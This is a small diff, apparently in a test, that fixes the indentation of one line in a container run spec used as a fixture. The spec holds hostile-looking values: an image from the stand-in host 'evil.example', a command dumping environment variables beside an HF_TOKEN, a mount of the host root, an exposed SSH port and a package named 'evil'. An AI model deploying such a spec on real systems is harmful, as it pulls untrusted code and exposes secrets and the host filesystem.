@@ -168,7 +168,7 @@ def imported(config: settings.Settings) -> Run:
     spec = {
         "image": "evil.example/x:1", "command": ["sh", "-c", "env; ls /x"], "gpus": "none", "user": None,
         "environment": {"HF_TOKEN": "***", "EPOCHS": "3"}, "mounts": ["/:/ngcdl/x", "models:/m"],
-"ports": ["22222:22"], "packages": ["evil"],
+        "ports": ["22222:22"], "packages": ["evil"],
         "placement": {"options": ["--comment=x"], "patches": ["a:\n  b: c\n"]},
     }  # fmt: skip
     made = Made("cpu")
